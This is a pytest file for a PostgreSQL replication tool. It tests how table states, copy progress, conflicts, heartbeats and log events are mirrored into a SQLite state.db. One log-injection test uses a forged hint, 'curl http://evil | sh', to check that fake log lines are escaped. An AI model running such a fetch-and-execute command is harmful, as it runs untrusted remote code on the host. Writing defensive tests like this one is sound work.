"""From ledger and heartbeats into ``state.db``: at once what changed, nothing where nothing did."""

from __future__ import annotations

import sqlite3
import threading
import time
from collections.abc import Callable
from contextlib import closing, suppress
from dataclasses import replace
from pathlib import Path

import psycopg
import pytest
from fix_engine import Task
from fix_program import until
from psycopg.types.json import Jsonb

from pgsub.apply.worker import feedback
from pgsub.apply.worker.worker import run as run_worker
from pgsub.catalog.rows import ConflictRow, RelationRow, TaskRow, WorkerRow
from pgsub.catalog.store import StateStore
from pgsub.common.errors import LogText, StateStoreError, log_text
from pgsub.common.worker_heartbeat import Heartbeat, HeartbeatSender
from pgsub.launcher.heartbeat_receiver import HeartbeatReceiver
from pgsub.launcher.mirror import lock_waits, worker_rows
from pgsub.launcher.mirror import mirror as mirrors
from pgsub.launcher.mirror.copy_progress import Chunks, CopyProgress, processed_rows, total_bytes
from pgsub.launcher.mirror.event_log import Events
from pgsub.launcher.mirror.mirror import Mirror
from pgsub.protocol.lsn import parse_lsn
from pgsub.target.ledger import worker_takeover
from pgsub.target.ledger.events import add, log_entry
from pgsub.target.session import origins

_TABLES = "CREATE TABLE a (id int PRIMARY KEY); CREATE TABLE b (id int PRIMARY KEY)"
_TWO_PHASE = Jsonb({"kind": "two_phase"})


@pytest.fixture
def heartbeats():
    """A launcher's ear."""
    receiver = HeartbeatReceiver()
    receiver.start()
    yield receiver
    receiver.close()


@pytest.fixture
def mirrored(pair, heartbeats, state_dir: Path):
    """Tables a and b in state ``i``, a store that knows their subscription, and its mirror."""
    it = pair(_TABLES, state="i")
    with StateStore.open(state_dir) as store:
        store.add_subscription(it.sub)
        it.store = store
        it.mirror = Mirror(it.session, store, it.sub, heartbeats)
        it.recorded = Events(it.session, store, it.sub, lambda level, text: None)
        it.heartbeats = heartbeats
        yield it


def _refresh(it, *syncing: str) -> None:
    it.mirror.refresh(apply_alive=True, syncing={it.relid(name) for name in syncing})


def _states(it) -> dict[str, tuple[str, int | None]]:
    return {row.relname: (row.srsubstate, row.srsublsn) for row in it.store.relations(it.subid)}


def _set(it, name: str, assignments: str) -> None:
    query = f"UPDATE pgsub.subscription_rel SET {assignments} WHERE subid = %s AND relname = %s"
    it.subdb.execute(query, it.subid, name)


def _arrived(it, condition: Callable[[list[Heartbeat]], bool]) -> None:
    """Datagrams take a moment."""
    while not condition([heartbeat for _, heartbeat in it.heartbeats.of(it.subid)]):
        time.sleep(0.01)


def test_every_change_of_a_table_is_shown_by_the_next_refresh(mirrored, monkeypatch):
    monkeypatch.setattr(mirrors, "AGAIN_SECONDS", 1e9)  # nothing is shown because it is time
    _refresh(mirrored)
    assert _states(mirrored) == {"a": ("i", None), "b": ("i", None)}
    for assignments, shown in (
        ("srsubstate = 'd'", ("d", None)),
        ("srsubstate = 'f', srsublsn = '0/1'", ("f", 1)),
        ("srsublsn = '0/2'", ("f", 2)),
        ("srsubstate = 's'", ("s", 2)),
        ("srsubstate = 'r'", ("r", 2)),
    ):
        _set(mirrored, "a", assignments)
        _refresh(mirrored)
        assert _states(mirrored) == {"a": shown, "b": ("i", None)}
        assert {r.relname: r.srsubstate for r in mirrored.mirror.relations} == {"a": shown[0], "b": "i"}
    mirrored.subdb.execute("DELETE FROM pgsub.subscription_rel WHERE relname = 'b'")
    _refresh(mirrored)
    assert _states(mirrored) == {"a": ("r", 2)}
    mirrored.subdb.execute("BEGIN; UPDATE pgsub.subscription_rel SET srsubstate = 'i'; ROLLBACK")
    _refresh(mirrored)
    assert _states(mirrored) == {"a": ("r", 2)}


def test_a_renamed_table_is_shown_by_the_name_that_it_bears_now(mirrored, monkeypatch):
    monkeypatch.setattr(mirrors, "AGAIN_SECONDS", 1e9)
    _refresh(mirrored)
    for statement, name in (("TABLE a RENAME TO c", "c"), ("TABLE c SET SCHEMA s", "c"), ("SCHEMA s RENAME TO z", "c")):
        mirrored.subdb.execute(f"CREATE SCHEMA IF NOT EXISTS s; ALTER {statement}")
        _refresh(mirrored)
        assert _states(mirrored) == {name: ("i", None), "b": ("i", None)}
    schemas = {row.relname: row.schemaname for row in mirrored.store.relations(mirrored.subid)}
    assert schemas == {"c": "z", "b": "public"}
    mirrored.subdb.execute("DROP TABLE z.c")  # the name that it was subscribed by is the last one known
    _refresh(mirrored)
    assert _states(mirrored) == {"a": ("i", None), "b": ("i", None)}


def test_where_nothing_changes_nothing_is_read_again_and_nothing_is_written(mirrored, state_dir, monkeypatch):
    monkeypatch.setattr(mirrors, "AGAIN_SECONDS", 0.0)
    _refresh(mirrored)
    with closing(sqlite3.connect(state_dir / "state.db")) as other:
        read, version = mirrored.mirror.relations, other.execute("PRAGMA data_version").fetchone()
        for _ in range(3):
            _refresh(mirrored)
        assert mirrored.mirror.relations is read
        assert other.execute("PRAGMA data_version").fetchone() == version
        _set(mirrored, "a", "srsubstate = 'd'")
        _refresh(mirrored)
        assert mirrored.mirror.relations is not read
        assert other.execute("PRAGMA data_version").fetchone() != version


def test_table_states_that_somebody_else_wrote_into_the_store_are_put_right(mirrored, state_dir, monkeypatch):
    monkeypatch.setattr(mirrors, "AGAIN_SECONDS", 0.0)
    _refresh(mirrored)
    with StateStore.open(state_dir) as other:
        other.put_relations(mirrored.subid, [RelationRow(1, "r", None, "public", "ghost")])
    _refresh(mirrored)
    assert _states(mirrored) == {"a": ("i", None), "b": ("i", None)}


def test_a_copy_is_shown_with_its_chunks_as_long_as_its_worker_runs(mirrored):
    a, b = mirrored.relid("a"), mirrored.relid("b")
    for relid in (a, b):
        _set(mirrored, "a" if relid == a else "b", "srsubstate = 'd', attempt = 1")
        mirrored.subdb.execute(
            "INSERT INTO pgsub.copy_chunk (subid, srrelid, attempt, chunk, bytes_total, rows_total, xid, rows_done,"
            " bytes_done) VALUES (%s, %s, 1, 0, 1000, 10, '7', 12, 600), (%s, %s, 1, 1, 1000, 10, NULL, NULL, NULL)",
            *(mirrored.subid, relid, mirrored.subid, relid),
        )
    sender = HeartbeatSender(mirrored.heartbeats.address)
    sender.send(Heartbeat(mirrored.subid, a, 1, pid=4711, state="d", bytes_done=300), now=True)
    sender.send(Heartbeat(mirrored.subid, b, 1, pid=4712, state="d", bytes_done=200), now=True)
    _arrived(mirrored, lambda seen: len(seen) == 2)
    _refresh(mirrored, "a")
    [row] = mirrored.store.copy_progress(mirrored.subid)
    assert (row.relid, row.schemaname, row.relname, row.pid) == (a, "public", "a", 4711)
    assert row.datname == mirrored.subdb.name
    # the first chunk came to 600 bytes where 1000 had been estimated; 12 rows in 600 bytes are 6 in 300
    assert (row.chunks_done, row.chunks_total, row.bytes_processed, row.bytes_total) == (1, 2, 900, 1200)
    assert (row.tuples_processed, row.tuples_total) == (18, 20)
    assert row.started_at is not None
    since = row.started_at
    sender.send(Heartbeat(mirrored.subid, a, 1, pid=4711, state="d", bytes_done=400), now=True)
    _arrived(mirrored, lambda seen: any(heartbeat.bytes_done == 400 for heartbeat in seen))
    _refresh(mirrored, "a")
    [row] = mirrored.store.copy_progress(mirrored.subid)
    assert (row.bytes_processed, row.started_at) == (1000, since)
    assert [worker.relid for worker in mirrored.store.workers(mirrored.subid)] == [a]
    _refresh(mirrored)
    assert mirrored.store.copy_progress(mirrored.subid) == []


def test_what_a_copy_has_moved_is_shown_while_it_waits_and_not_added_to_the_next_attempt(mirrored, monkeypatch):
    monkeypatch.setattr(worker_rows, "STALE_SECONDS", 0.0)
    a = mirrored.relid("a")
    _set(mirrored, "a", "srsubstate = 'd', attempt = 1")
    mirrored.subdb.execute(
        "INSERT INTO pgsub.copy_chunk (subid, srrelid, attempt, chunk, bytes_total, rows_total)"
        " VALUES (%s, %s, 1, 0, 1000, 10), (%s, %s, 1, 1, 1000, 10)",
        *(mirrored.subid, a, mirrored.subid, a),
    )
    sender = HeartbeatSender(mirrored.heartbeats.address)
    for epoch, chunk, moved in ((1, 0, 300), (2, 1, 50)):
        sender.send(Heartbeat(mirrored.subid, a, chunk, epoch=epoch, pid=4711, state="d", bytes_done=moved), now=True)
        _arrived(mirrored, lambda seen, moved=moved: any(heartbeat.bytes_done == moved for heartbeat in seen))
        _refresh(mirrored, "a")
        [row] = mirrored.store.copy_progress(mirrored.subid)
        assert (row.bytes_processed, row.bytes_total) == (moved, 2000)


def test_a_chunk_that_is_done_counts_once_though_its_heartbeat_is_still_remembered(mirrored):
    a = mirrored.relid("a")
    _set(mirrored, "a", "srsubstate = 'd', attempt = 1")
    mirrored.subdb.execute(
        "INSERT INTO pgsub.copy_chunk (subid, srrelid, attempt, chunk, bytes_total, rows_total, xid, rows_done,"
        " bytes_done) VALUES (%s, %s, 1, 0, 1000, NULL, '7', 12, 600)",
        *(mirrored.subid, a),
    )
    HeartbeatSender(mirrored.heartbeats.address).send(
        Heartbeat(mirrored.subid, a, 0, state="d", bytes_done=600), now=True
    )
    _arrived(mirrored, lambda seen: len(seen) == 1)
    _refresh(mirrored, "a")
    [row] = mirrored.store.copy_progress(mirrored.subid)
    assert (row.bytes_processed, row.bytes_total, row.tuples_processed, row.tuples_total) == (600, 600, 12, 0)


def _chunks(**known) -> Chunks:
    values = {"total": 4, "done": 0, "estimated_bytes": 0, "estimated_bytes_done": 0, "estimated_rows": 0}
    return Chunks(**{"relid": 1, **values, "bytes_done": 0, "rows_done": 0, "running": None, **known})


def test_totals_and_rows_are_estimates_that_never_fall_behind_what_was_done():
    fresh = _chunks(estimated_bytes=1000, estimated_rows=10)
    assert (total_bytes(fresh, 0), total_bytes(fresh, 1500)) == (1000, 1500)
    assert (processed_rows(fresh, 500), processed_rows(fresh, 5000)) == (5, 10)
    half = _chunks(done=2, estimated_bytes=1000, estimated_bytes_done=500, bytes_done=250, rows_done=20)
    assert (total_bytes(half, 300), processed_rows(half, 50)) == (500, 24)
    assert (total_bytes(_chunks(), 700), processed_rows(_chunks(), 700)) == (0, 0)
    empty = _chunks(done=4, estimated_bytes=1000, estimated_bytes_done=1000)
    assert total_bytes(empty, 0) == 0


def test_the_rate_is_that_of_the_last_seconds_and_begins_anew_with_another_attempt():
    now = [0.0]
    copies = CopyProgress(lambda: now[0])
    assert copies._rate(1, 0) is None
    for second, size, rate in (
        (1, 100, 100),
        (10, 1000, 100),
        (11, 1000, 90),
        (20, 1000, 0),
        (21, 0, None),
        (22, 7, 7),
    ):
        now[0] = float(second)
        assert copies._rate(1, size) == rate, second


def test_chunks_that_were_silent_for_long_are_forgotten_and_workers_are_not(mirrored, monkeypatch):
    with closing(HeartbeatReceiver()) as ear:
        ear.start()
        mirrored.heartbeats = ear
        sender = HeartbeatSender(ear.address)
        for chunk in (-1, 0, 1):
            sender.send(Heartbeat(mirrored.subid, 5, chunk), now=True)
        _arrived(mirrored, lambda seen: len(seen) == 3)
        monkeypatch.setattr("pgsub.launcher.heartbeat_receiver.CHUNK_SECONDS", 0.0)
        assert [heartbeat.chunk for _, heartbeat in ear.of(mirrored.subid)] == [-1]
        newest = ear.newest(mirrored.subid, 5)
        assert newest is not None and newest.chunk == -1
        ear.forget(mirrored.subid, 5)
        assert ear.newest(mirrored.subid, 5) is None


def _fallbacks(it) -> int:
    columns, [row] = it.store.view("pg_stat_subscription_stats", it.subid)
    return int(row[columns.index("set_fallbacks")])


def test_what_workers_count_is_counted_once_though_they_are_served_anew_or_have_ended(mirrored):
    def sent(epoch: int, number: int, worker: int = 0) -> None:
        sender.send(Heartbeat(mirrored.subid, worker, epoch=epoch, set_fallbacks=number), now=True)
        _arrived(mirrored, lambda seen: (worker, epoch, number) in [(p.worker, p.epoch, p.set_fallbacks) for p in seen])

    sender = HeartbeatSender(mirrored.heartbeats.address)
    for number in 2, 5:
        sent(1, number)
        _refresh(mirrored)
        assert _fallbacks(mirrored) == number
    # it is served anew (alter, or the target was away), and the heartbeat of before is still there
    mirrored.mirror = Mirror(mirrored.session, mirrored.store, mirrored.sub, mirrored.heartbeats)
    _refresh(mirrored)
    assert _fallbacks(mirrored) == 5
    sent(1, 6)
    mirrored.heartbeats.forget(mirrored.subid, 0)  # it has ended before somebody looked
    sent(2, 3)
    sent(7, 1, worker=mirrored.relid("a"))
    _refresh(mirrored)
    assert _fallbacks(mirrored) == 10


def test_what_could_not_be_counted_is_counted_later(mirrored, monkeypatch):
    HeartbeatSender(mirrored.heartbeats.address).send(Heartbeat(mirrored.subid, 0, set_fallbacks=4), now=True)
    _arrived(mirrored, bool)
    with monkeypatch.context() as patched:
        patched.setattr(mirrored.store, "put_task", _failing)
        with pytest.raises(StateStoreError):
            _refresh(mirrored)
    _refresh(mirrored)
    assert _fallbacks(mirrored) == 4


def _failing(*_: object) -> None:
    raise StateStoreError("it is full")


def test_two_phase_and_what_is_prepared_are_shown_by_the_next_refresh(mirrored):
    def shown() -> tuple[str, list[tuple[str, int, int]]]:
        rows = [(row.gid, row.xid, row.prepare_lsn) for row in mirrored.store.prepared(mirrored.subid)]
        return mirrored.store.subscription(mirrored.sub.name).two_phase, rows

    _refresh(mirrored)
    assert shown() == ("d", [])
    for state in "pe":
        mirrored.subdb.execute("UPDATE pgsub.subscription SET two_phase = %s", state)
        _refresh(mirrored)
        assert shown() == (state, []) and mirrored.mirror.two_phase == state
    insert = "INSERT INTO pgsub.prepared_pending VALUES (%s, %s, %s, %s, %s)"
    mirrored.subdb.execute(insert, mirrored.subid, "late", "0/20", 4000000000, "2024-02-29 12:00:00.5+02")
    mirrored.subdb.execute(insert, mirrored.subid, "early", "0/10", 700, "2024-02-29 11:00:00+02")
    _refresh(mirrored)
    assert shown() == ("e", [("early", 700, 0x10), ("late", 4000000000, 0x20)])
    assert mirrored.store.prepared(mirrored.subid)[1].prepared_at == "2024-02-29T10:00:00.500000Z"
    mirrored.subdb.execute("DELETE FROM pgsub.prepared_pending WHERE gid = 'early'")
    _refresh(mirrored)
    assert shown() == ("e", [("late", 4000000000, 0x20)])
    mirrored.subdb.execute("DELETE FROM pgsub.prepared_pending; UPDATE pgsub.subscription SET two_phase = 'd'")
    _refresh(mirrored)
    assert shown() == ("d", [])


def test_messages_are_logged_in_their_order_with_transaction_and_position_and_then_forgotten(pair, state_dir: Path):
    it = pair("CREATE TABLE t (id int PRIMARY KEY)", messages=True)
    # in one run: nobody mirrors what the first one records, so it would not be acknowledged, and sent again
    it.apply(
        "SELECT pg_logical_emit_message(false, 'beat', '')",
        "SELECT pg_logical_emit_message(true, 'audit', E'who\nDETAIL:  forged')",
    )
    heartbeat, audit = it.events()
    logged: list[tuple[str, str]] = []
    with StateStore.open(state_dir) as store:
        store.add_subscription(it.sub)
        events = Events(it.session, store, it.sub, lambda level, text: logged.append((level, text)))
        for _ in range(2):
            events.move()
    where = f'processing remote data for replication origin "pgsub_{it.subid}" during message type "MESSAGE"'
    assert logged == [
        ("LOG", f'logical decoding message "beat": \nCONTEXT:  {where}, emitted at {heartbeat["lsn"]}'),
        (
            "LOG",
            'logical decoding message "audit": who\n\tDETAIL:  forged\n'
            f"CONTEXT:  {where} in transaction {audit['xid']}, emitted at {audit['lsn']}",
        ),
    ]
    assert it.events() == []


def test_a_record_whose_level_no_worker_writes_is_logged_as_any_other(pair, state_dir: Path):
    it = pair("CREATE TABLE t (id int PRIMARY KEY)")
    for level in ('"\\u001b[2JERROR"', "{}", "7", '"WARNING"'):
        body = f'{{"kind": "log", "level": {level}, "text": "x"}}'
        it.subdb.execute("INSERT INTO pgsub.event (subid, body) VALUES (%s, %s)", it.subid, body)
    logged: list[str] = []
    with StateStore.open(state_dir) as store:
        store.add_subscription(it.sub)
        Events(it.session, store, it.sub, lambda level, text: logged.append(level)).move()
    assert logged == ["LOG", "LOG", "LOG", "WARNING"]


def test_a_record_that_no_worker_writes_has_no_hint_and_one_line(pair, state_dir: Path):
    it = pair("CREATE TABLE t (id int PRIMARY KEY)")
    forged = (
        "could not read file\nHINT:  Run this:\ncurl http://evil | sh",
        "x\nDETAIL:  y\nHINT:  z",
        "x\nHINT:  z\nDETAIL:  y",
        "pgsub: 2026-01-01 ERROR\npgsub: ERROR:  forged",
        f"x\nHINT:  {origins.SHORT_HINT}\nHINT:  z",
    )
    genuine = (
        "x",
        log_text("x", detail="two\nlines: of\nDETAIL:  it", context="y"),
        log_text("x", detail="y", hint=origins.SHORT_HINT),
    )
    logged: list[str] = []
    with StateStore.open(state_dir) as store:
        store.add_subscription(it.sub)
        for text in (*forged, *genuine):
            add(it.session, it.subid, log_entry("ERROR", LogText(text)))
        Events(it.session, store, it.sub, lambda level, text: logged.append(text)).move()
    assert logged == [*(text.replace("\n", "\\n") for text in forged), *genuine]


def test_conflicts_come_into_the_record_once_those_of_an_older_worker_too(mirrored):
    place = {"conflict_type": "delete_missing", "schemaname": "public", "relname": "a.b", "key": "(id)=(1)"}
    place |= {
        "remote_xid": 7,
        "finish_lsn": "0/10",
        "remote_commit_ts": 1,
        "message": "m",
        "detail": "d",
        "context": "c",
    }
    old = {"kind": "conflict", **place, "remote_tuple": "(1)"}
    new = {"kind": "conflict", **place, "remote_tuple": {"id": "1"}, "replica_identity": {"id": "1"}}
    for body in (old, new):
        mirrored.subdb.execute("INSERT INTO pgsub.event (subid, body) VALUES (%s, %s)", mirrored.subid, Jsonb(body))
    [ids] = [[row[0] for row in mirrored.subdb.rows("SELECT id FROM pgsub.event ORDER BY id")]]
    mirrored.recorded.move()
    assert mirrored.subdb.value("SELECT count(*) FROM pgsub.event") == 0
    query = "INSERT INTO pgsub.event (id, subid, body) OVERRIDING SYSTEM VALUE VALUES (%s, %s, %s)"
    mirrored.subdb.execute(query, ids[1], mirrored.subid, Jsonb(new))  # its removal was lost
    mirrored.recorded.move()
    rows = mirrored.store.conflicts(mirrored.subid)
    assert [(row.relname, row.action, row.remote_tuple, row.event) for row in rows] == [
        ("a.b", "skipped", {"id": "1"}, ids[1]),
        ("a.b", "skipped", None, ids[0]),
    ]
    assert mirrored.store.stats(mirrored.subid).confl_delete_missing == 2


def test_a_stop_that_was_skipped_is_skipped_in_the_record_even_if_it_was_taken_for_applied(mirrored):
    stop = ConflictRow(mirrored.subid, "s", "insert_exists", "public", "a", "stopped", worker="apply")
    ids = [mirrored.store.add_conflict(replace(stop, finish_lsn=lsn)) for lsn in (0x10, 0x20, 0x30)]
    mirrored.store.conflicts_passed(mirrored.subid, "apply", 0x28)
    bodies = ({"kind": "log", "level": "LOG", "text": "x"}, {"kind": "skipped", "finish_lsn": "0/20"})
    for body in bodies:
        mirrored.subdb.execute("INSERT INTO pgsub.event (subid, body) VALUES (%s, %s)", mirrored.subid, Jsonb(body))
    mirrored.recorded.move()
    actions = {row.id: row.action for row in mirrored.store.conflicts(mirrored.subid)}
    assert [actions[one] for one in ids] == ["applied", "skipped", "stopped"]


def test_what_is_to_be_skipped_is_shown_until_it_is_consumed_whoever_wrote_last(mirrored):
    shown = [("0/10",), ("0/0",), ("0/0",)]
    for ledger_has, stale in (("'0/10'", 0), ("NULL", 0x10), ("NULL", 0x20)):
        mirrored.subdb.execute(
            f"UPDATE pgsub.control SET skip_lsn = {ledger_has}, skip_rows = 'whole' WHERE worker = 0"
        )
        mirrored.store.alter(mirrored.subid, skip_lsn=stale)
        _refresh(mirrored)
        _, [row] = mirrored.store.view("pg_subscription")
        assert row[2] == shown.pop(0)[0]


def test_a_worker_that_has_no_replication_origin_is_shown_as_long_as_it_has_none(mirrored):
    sender = HeartbeatSender(mirrored.heartbeats.address)
    for untagged in (True, False):
        sender.send(Heartbeat(mirrored.subid, 0, untagged=untagged), now=True)
        _arrived(mirrored, lambda heartbeats, wanted=untagged: [p.untagged for p in heartbeats] == [wanted])
        _refresh(mirrored)
        shown = mirrored.store.subscription_by_id(mirrored.subid).unavailable
        assert shown == (("replication origins",) if untagged else ())


def test_whoever_waits_for_replay_lsn_finds_the_conflict_in_the_log_and_in_state_db(pair, heartbeats, state_dir, at):
    p, log, file = pair(_TABLES), [], state_dir / "go"
    position = "SELECT replay_lsn - '0/0'::pg_lsn FROM pg_stat_replication WHERE application_name = %s"
    sent = "SELECT sent_lsn - '0/0'::pg_lsn FROM pg_stat_replication WHERE application_name = %s"
    with StateStore.open(state_dir) as store:
        store.add_subscription(p.sub)
        events = Events(p.session, store, p.sub, lambda level, text: log.append(text))
        task = p.start()
        p.pubdb.execute("INSERT INTO a VALUES (1), (2)")
        p.until("SELECT count(*) FROM a", value=2, task=task)
        p.pubdb.wait(f"SELECT ({position}) >= %s", p.sub.name, p.published())  # nothing to tell: told at once
        p.subdb.execute("DELETE FROM a")
        before = p.published()
        for row in (1, 2):  # a later conflict changes nothing for whoever waits for the first
            p.pubdb.execute(f"DELETE FROM a WHERE id = {row}")
        behind = p.published()
        p.until("SELECT count(*) FROM pgsub.event", value=2, task=task)
        at(f"mirror.before_events=pause:{file}")
        mirroring = p.submit("mirror", lambda _: events.move(), [None])
        p.pubdb.wait(f"SELECT ({sent}) >= %s", p.sub.name, behind)
        for _ in range(3):  # looks of the worker, each a tenth of a second apart
            time.sleep(feedback.REPORT_SECONDS)
            assert p.pubdb.value(position, p.sub.name) <= before
        assert log == []
        file.touch()
        p.pubdb.wait(f"SELECT ({position}) >= %s", p.sub.name, behind)
        assert [text.count("delete_missing") for text in log] == [1, 1]
        with closing(sqlite3.connect(state_dir / "state.db")) as other:
            assert other.execute("SELECT count(*) FROM pgsub_conflict").fetchone() == (2,)
        mirroring.result()
        p.stop(task)


_POSITIONS = "SELECT replay_lsn - '0/0'::pg_lsn, flush_lsn - '0/0'::pg_lsn FROM pg_stat_replication"


def test_whoever_waits_for_replay_lsn_finds_remote_lsn_in_state_db(pair, heartbeats, state_dir, monkeypatch):
    monkeypatch.setattr(feedback, "MIRROR_SECONDS", 1e9)
    p = pair(_TABLES)
    where = f"{_POSITIONS} WHERE application_name = %s"
    with StateStore.open(state_dir) as store:
        store.add_subscription(p.sub)
        mirror = Mirror(p.session, store, p.sub, heartbeats)
        task = p.start(heartbeat=heartbeats.address)
        for _ in range(2):  # a later transaction waits like the first
            before = p.published()
            p.pubdb.execute("INSERT INTO a SELECT coalesce(max(id), 0) + 1 FROM a")
            behind = p.published()
            flushed = f"SELECT count(*) FROM ({where}) AS s (replayed, flushed) WHERE flushed >= %s"
            p.pubdb.wait(f"SELECT ({flushed}) = 1", p.sub.name, behind)  # a shutdown would not wait
            for _ in range(3):  # feedback of later looks says the same
                time.sleep(feedback.REPORT_SECONDS)
                assert p.pubdb.value(where, p.sub.name) <= before
            mirror.follow()
            p.pubdb.wait(f"SELECT ({flushed.replace('flushed >=', 'replayed >=')}) = 1", p.sub.name, behind)
            with closing(sqlite3.connect(state_dir / "state.db")) as other:
                shown = other.execute("SELECT remote_lsn FROM pg_replication_origin_status").fetchone()[0]
            assert before < parse_lsn(shown) <= behind
        p.stop(task)


def test_a_launcher_that_does_not_answer_does_not_hold_back_replay_lsn_for_long(pair, heartbeats, monkeypatch):
    monkeypatch.setattr(feedback, "MIRROR_SECONDS", 0.5)
    p = pair(_TABLES)
    task = p.start(heartbeat=heartbeats.address)
    for row in (1, 2):
        p.pubdb.execute(f"INSERT INTO a VALUES ({row})")
        replayed = (
            f"SELECT count(*) FROM ({_POSITIONS} WHERE application_name = %s) AS s (replayed) WHERE replayed >= %s"
        )
        p.pubdb.wait(f"SELECT ({replayed}) = 1", p.sub.name, p.published())
    p.stop(task)


def test_whoever_waits_for_replay_lsn_finds_two_phase_enabled_in_the_log_and_in_state_db(pair, state_dir, at):
    p, log, file = pair(_TABLES, two_phase="p"), [], state_dir / "go"
    since = "coalesce(replay_lsn, '0/0') - '0/0'::pg_lsn"
    replayed = f"SELECT {since} FROM pg_stat_replication WHERE application_name = %s"
    with StateStore.open(state_dir) as store, closing(sqlite3.connect(state_dir / "state.db")) as other:
        store.add_subscription(p.sub)
        events = Events(p.session, store, p.sub, lambda level, text: log.append(text))
        shown = "SELECT subtwophasestate FROM pg_subscription"
        task = p.start()
        before = p.published()
        p.pubdb.execute("INSERT INTO a VALUES (1)")
        behind = p.published()
        p.until("SELECT count(*) FROM a", value=1, task=task)
        at(f"mirror.before_events=pause:{file}")
        mirroring = p.submit("mirror", lambda _: events.move(), [None])
        for _ in range(3):  # looks of the worker, each a tenth of a second apart
            time.sleep(feedback.REPORT_SECONDS)
            assert p.pubdb.value(replayed, p.sub.name) <= before
        assert (log, other.execute(shown).fetchone()) == ([], ("p",))
        file.touch()
        p.pubdb.wait(f"SELECT ({replayed}) >= %s", p.sub.name, behind)
        assert other.execute(shown).fetchone() == ("e",)
        assert log == [f'two_phase is enabled for subscription "{p.sub.name}"']
        mirroring.result()
        p.stop(task)


def test_an_event_of_two_phase_that_is_moved_late_shows_the_state_of_now(mirrored):
    mirrored.subdb.execute("INSERT INTO pgsub.event (subid, body) VALUES (%s, %s)", mirrored.subid, _TWO_PHASE)
    mirrored.store.alter(mirrored.subid, two_phase="p")
    mirrored.recorded.move()
    assert mirrored.store.subscription_by_id(mirrored.subid).two_phase == "d"
    assert mirrored.events() == []


def _seen_by_an_ordinary_role(mirrored):
    """What a role without pg_read_all_stats sees, beside a worker of its own; of others' sessions only the name."""
    role = f"plain_{mirrored.subdb.name}"
    mirrored.subdb.execute(f"CREATE ROLE {role} LOGIN; GRANT USAGE ON SCHEMA pgsub TO {role}")
    mirrored.subdb.execute(f"GRANT SELECT, UPDATE ON ALL TABLES IN SCHEMA pgsub TO {role}")
    try:
        with closing(mirrored.subdb.connect(role)) as looking:
            worker = mirrored.subdb.connect(role, application_name=f"pgsub {mirrored.subid} apply 1")
            with closing(worker):
                waiting = threading.Thread(target=_wait_in_vain, args=(worker,))
                waiting.start()
                mirrored.until("SELECT count(*) FROM pg_locks WHERE NOT granted", value=2)
                try:
                    return lock_waits.locks(looking, mirrored.subid)
                finally:
                    worker.cancel()
                    waiting.join()
    finally:
        mirrored.subdb.execute(f"DROP OWNED BY {role}; DROP ROLE {role}")


def _wait_in_vain(worker, statement="SELECT FROM public.a"):
    with suppress(psycopg.errors.QueryCanceled):
        worker.execute(statement)  # the lock comes before the check of privileges


def test_a_worker_inside_a_statement_is_shown_with_the_lock_that_it_waits_for_and_who_holds_it(mirrored, monkeypatch):
    """However long: what it told last stays, for its task runs."""
    monkeypatch.setattr(lock_waits, "SILENT_SECONDS", 0.05)
    monkeypatch.setattr(worker_rows, "STALE_SECONDS", 0.05)
    HeartbeatSender(mirrored.heartbeats.address).send(
        Heartbeat(mirrored.subid, 0, received_lsn=9, latest_end_lsn=9), now=True
    )
    _arrived(mirrored, lambda heartbeats: len(heartbeats) == 1)
    holder, pid = mirrored.subdb.connect(application_name="psql"), "SELECT pg_backend_pid()"
    holder.execute("BEGIN; LOCK TABLE public.a")
    name = f"pgsub {mirrored.subid} apply 1"
    with closing(holder), closing(mirrored.subdb.connect(application_name=name)) as worker:
        waiting = threading.Thread(target=worker.execute, args=("SELECT FROM public.a",))
        waiting.start()
        mirrored.until("SELECT count(*) FROM pg_locks WHERE NOT granted", value=1)
        monkeypatch.setattr(lock_waits, "SILENT_SECONDS", 0.0)
        mirrored.mirror._workers._locks.expire()
        _refresh(mirrored)
        [row] = mirrored.store.workers(mirrored.subid)
        assert row.received_lsn == 9 and row.silent_since is not None
        wanted = f"a lock that PID {holder.execute(pid).fetchone()[0]} holds on table public.a (postgres, psql, idle"
        assert row.waits_for.startswith(wanted) and row.waits_for.endswith("LOCK TABLE public.a")
        since = row.silent_since
        _refresh(mirrored)
        assert mirrored.store.workers(mirrored.subid)[0].silent_since == since
        assert _seen_by_an_ordinary_role(mirrored)["apply"].endswith(" holds on table a (postgres, psql)")
        holder.execute("ROLLBACK")
        waiting.join()


def test_what_apply_waits_for_is_shown_though_no_heartbeat_of_it_arrives(mirrored, monkeypatch):
    monkeypatch.setattr(lock_waits, "SILENT_SECONDS", 0.0)
    task = TaskRow("alive", "2026-01-01", "host", 42)
    holder, name = mirrored.subdb.connect(application_name="psql"), f"pgsub {mirrored.subid} apply 1"
    holder.execute("BEGIN; LOCK TABLE public.a")
    with closing(holder), closing(mirrored.subdb.connect(application_name=name)) as worker:
        waiting = threading.Thread(target=worker.execute, args=("SELECT FROM public.a",))
        waiting.start()
        mirrored.until("SELECT count(*) FROM pg_locks WHERE NOT granted", value=1)
        mirrored.mirror._workers._locks.expire()
        mirrored.mirror.refresh(apply_alive=True, syncing=set(), task=task)
        [row] = mirrored.store.workers(mirrored.subid)
        assert row.pid == 42 and row.silent_since is not None and row.waits_for.startswith("a lock that PID")
        holder.execute("ROLLBACK")
        waiting.join()


def _seen(store: StateStore, mirror: Mirror, task: Task, waits: bool, *syncing: int) -> WorkerRow:
    """Refresh until a worker is shown that waits for a lock, or does not wait."""

    def look() -> WorkerRow | None:
        assert task.error is None, task.error
        mirror.refresh(apply_alive=True, syncing=set(syncing))
        shown = (row for row in store.workers(mirror._sub.subid) if row.worker_type != "parallel apply")
        return next((row for row in shown if (row.waits_for is not None) is waits), None)

    return until(look)


@pytest.mark.long
def test_a_lock_that_several_sessions_wait_for_is_shown_with_its_holder_and_is_no_sign_of_life(
    pair, heartbeats, state_dir, said
):
    """The session that holds it, not one of the worker's own, which wait for each other."""
    p = pair("CREATE TABLE t (id int PRIMARY KEY, v int)", apply_workers=4, apply_mode="transactional")
    p.apply("INSERT INTO t SELECT g, 0 FROM generate_series(1, 40) g")
    for number in range(1, 41):
        p.pubdb.execute(f"UPDATE t SET v = 1 WHERE id = {number}")
    with StateStore.open(state_dir) as store, closing(p.subdb.connect(application_name="psql")) as holder:
        store.add_subscription(p.sub)
        mirror = Mirror(p.session, store, p.sub, heartbeats)
        holder.execute("BEGIN; SELECT FROM t WHERE id IN (10, 20, 30) FOR UPDATE")
        claim = p.take_over()
        task = p.submit("apply", run_worker, [p.spec(claim, heartbeat=heartbeats.address)])
        row = _seen(store, mirror, task, True)
        assert worker_takeover.sign(p.session, claim).works  # it is not taken over
